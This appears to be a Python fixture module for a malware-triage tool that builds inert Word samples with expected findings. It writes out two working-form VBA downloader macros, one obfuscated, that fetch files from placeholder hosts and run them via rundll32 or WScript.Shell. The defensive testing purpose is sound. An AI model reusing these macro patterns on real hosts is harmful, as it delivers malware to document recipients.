"""Inert Word 97-2003 documents and templates with VBA, built with `cfb_writer`.

The RestyLink template (stage two of the chain: the .dot the LNK drops into Word's STARTUP folder)
carries a macro that would download from a reserved .invalid domain or a TEST-NET address and write
a file if it ran; the others are the controls an analyst needs (a harmless formatting macro, no
macro at all), encrypted documents and an OLE Package. The macros are never executed and point at
nothing reachable.
"""

from __future__ import annotations

from restytriage.samples import Sample
from restytriage.samples.cfb_writer import EmbeddedFile, build_word_document

PAYLOAD_URL = "http://update.restylink.invalid/docs/update.dat"
FALLBACK_HOST = "198.51.100.23"  # TEST-NET-2 (RFC 5737)
DROPPED_NAME = "msoffupd.dll"
QUARANTINE_PASSWORD = "infected"  # one of the conventional passwords the tool tries by itself
UNKNOWN_PASSWORD = "Resty#0412"


def _chr_chain(text: str) -> str:
    """VBA that builds `text` one character at a time: Chr(104) & Chr(116) & ..."""
    return " & ".join(f"Chr({ord(c)})" for c in text)


def restylink_macro() -> str:
    """The template's module: AutoExec (Word start from STARTUP) and AutoOpen both fetch a DLL."""
    reversed_url = PAYLOAD_URL[::-1]
    return f"""\
' 文書テンプレートの自動更新 (社内配布用)
Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" ( _
    ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, _
    ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long

Sub AutoExec()
    UpdateTemplate
End Sub

Sub AutoOpen()
    UpdateTemplate
End Sub

Private Sub UpdateTemplate()
    Dim source As String, fallback As String, target As String
    source = StrReverse("{reversed_url}")
    fallback = "http://" & {_chr_chain(FALLBACK_HOST)} & "/docs/update.dat"
    target = Environ("APPDATA") & "\\Microsoft\\Templates\\" & {_chr_chain(DROPPED_NAME)}
    If URLDownloadToFileA(0, source, target, 0, 0) <> 0 Then
        URLDownloadToFileA 0, fallback, target, 0, 0
    End If
    Open target & ".log" For Output As #1
    Print #1, Format(Now, "yyyy-mm-dd hh:nn:ss")
    Close #1
    Shell "rundll32.exe " & Chr(34) & target & Chr(34) & ",DllInstall", vbHide
End Sub
"""


FORMATTING_MACRO = """\
Sub FormatReportTables()
    ' Apply the house style to every table of the quarterly report
    Dim tbl As Table
    For Each tbl In ActiveDocument.Tables
        tbl.Style = "Grid Table 4 - Accent 1"
        tbl.Rows(1).HeadingFormat = True
        tbl.Range.Font.Name = "Calibri"
        tbl.Range.Font.Size = 10
        tbl.AutoFitBehavior wdAutoFitWindow
    Next tbl
End Sub
"""

# Opens a dialog only: an auto-exec trigger without any action.
ENABLE_CONTENT_MACRO = """\
Private Sub Document_Open()
    MsgBox "このドキュメントは保護されています。編集を有効にしてください。", vbInformation, "Microsoft Word"
End Sub
"""

# The classic downloader of macro phishing: XMLHTTP + ADODB.Stream + Shell, on Document_Open.
INVOICE_MACRO = f"""\
Private Sub Document_Open()
    Dim http As Object, stream As Object, path As String
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "http://{FALLBACK_HOST}/invoice/view.exe", False
    http.Send
    path = Environ("TEMP") & "\\invoice_view.exe"
    Set stream = CreateObject("ADODB.Stream")
    stream.Type = 1
    stream.Open
    stream.Write http.responseBody
    stream.SaveToFile path, 2
    stream.Close
    CreateObject("WScript.Shell").Run path, 0, False
End Sub
"""

SETUP_SCRIPT = (
    b"@echo off\r\nrem restytriage inert sample: prints a line and exits\r\necho Installing viewer...\r\n"
)


def restylink_template() -> bytes:
    return build_word_document(
        {"NewMacros": restylink_macro()},
        template=True,
        codepage=932,
        text="会議資料テンプレート\n本テンプレートは社内会議用です。",
        author="佐藤 健一",
        last_saved_by="Administrator",
        title="会議資料",
        company="外務関連団体",
        attached_template="会議資料.dot",
    )


def formatting_document() -> bytes:
    return build_word_document(
        {"ReportFormatting": FORMATTING_MACRO},
        codepage=1252,
        text="Quarterly report Q1 2022\nRevenue and cost tables follow.",
        author="Emma Clarke",
        title="Quarterly report",
        company="Northwind Traders",
    )


def plain_document() -> bytes:
    return build_word_document(
        None,
        codepage=1252,
        text="Meeting notes\nAttendees: finance team. Next meeting on Friday.",
        author="Emma Clarke",
        title="Meeting notes",
    )


def encrypted_invoice() -> bytes:
    return build_word_document(
        {"ThisDocument": INVOICE_MACRO},
        codepage=1252,
        text="Invoice 2022-0412\nAmount due: 1,240.00 EUR",
        author="accounts",
        password=QUARANTINE_PASSWORD,
    )


def locked_document() -> bytes:
    return build_word_document(
        {"ThisDocument": ENABLE_CONTENT_MACRO},
        codepage=932,
        text="【機密】取扱注意\n閲覧にはパスワードが必要です。",
        author="総務部",
        password=UNKNOWN_PASSWORD,
    )


def package_document() -> bytes:
    return build_word_document(
        None,
        codepage=1252,
        text="Shipping label\nDouble-click the icon below to install the label viewer.",
        author="logistics",
        embedded=[EmbeddedFile("setup.cmd", SETUP_SCRIPT, "C:\\Users\\logistics\\Desktop\\setup.cmd")],
    )


SAMPLES: list[Sample] = [
    Sample(
        name="restylink_startup_template.dot",
        build=restylink_template,
        imitates="RestyLink stage 2: Word 97-2003 template with an AutoExec/AutoOpen downloader macro "
        "(Chr/StrReverse obfuscation, URLDownloadToFileA, rundll32), code page 932, Japanese author",
        verdict="malicious",
        techniques=("T1137.001", "T1105", "T1027", "T1059.005", "T1204.002", "T1106"),
        findings=(
            "ole.template",
            "ole.template_macro_payload",
            "ole.autoexec",
            "ole.mraptor_suspicious",
            "ole.vba_download",
            "ole.vba_file_write",
            "ole.vba_execute",
            "ole.vba_obfuscation",
            "ole.vba_win32_api",
            "ole.vba_network_ioc",
        ),
        absent=("ole.vba_stomping", "ole.encrypted_unknown_password"),
        facts=(
            ("template", "FIB fDot"),
            ("code page", "932"),
            ("author", "佐藤 健一"),
            ("auto-exec", "AutoExec"),
            ("macro behaviour", "update.restylink.invalid"),
            ("decoded strings", FALLBACK_HOST),
            ("macro source", "URLDownloadToFileA"),
        ),
    ),
    Sample(
        name="quarterly_report_formatting.doc",
        build=formatting_document,
        imitates="business Word document with a harmless table-formatting macro (false-positive control)",
        verdict="clean",
        findings=("ole.vba_macros",),
        absent=(
            "ole.autoexec",
            "ole.mraptor_suspicious",
            "ole.template",
            "ole.vba_obfuscation",
            "ole.vba_execute",
        ),
        facts=(("macros", "ReportFormatting"), ("code page", "1252")),
    ),
    Sample(
        name="meeting_notes.doc",
        build=plain_document,
        imitates="plain Word 97-2003 document without macros (negative control)",
        verdict="clean",
        absent=("ole.vba_macros", "ole.template", "ole.malformed"),
        facts=(("author", "Emma Clarke"),),
    ),
    Sample(
        name="invoice_protected.doc",
        build=encrypted_invoice,
        imitates="password-protected (RC4) Word invoice whose Document_Open macro downloads and runs an EXE; "
        "the password 'infected' is one the tool tries by itself",
        verdict="malicious",
        techniques=("T1027.013", "T1105", "T1204.002"),
        findings=(
            "ole.encrypted",
            "ole.autoexec",
            "ole.vba_download",
            "ole.mraptor_suspicious",
            "ole.vba_file_write",
        ),
        absent=("ole.encrypted_unknown_password", "ole.template"),
        facts=(("encryption", "infected"), ("auto-exec", "Document_Open")),
    ),
    Sample(
        name="locked_notice.doc",
        build=locked_document,
        imitates="Word document encrypted with a password the tool does not know; its Document_Open macro "
        "(stored in clear, as Word does) only shows an 'enable editing' message",
        verdict="suspicious",
        techniques=("T1027.013",),
        findings=("ole.encrypted_unknown_password", "ole.autoexec"),
        absent=("ole.mraptor_suspicious", "ole.encrypted"),
        facts=(("encryption", "password unknown"),),
    ),
    Sample(
        name="shipping_label.doc",
        build=package_document,
        imitates="Word document with an OLE Package icon embedding a (harmless) batch script",
        verdict="suspicious",
        techniques=("T1204.002", "T1027.009"),
        findings=("ole.package_executable",),
        absent=("ole.vba_macros",),
        facts=(("embedded objects", "setup.cmd"),),
    ),
]
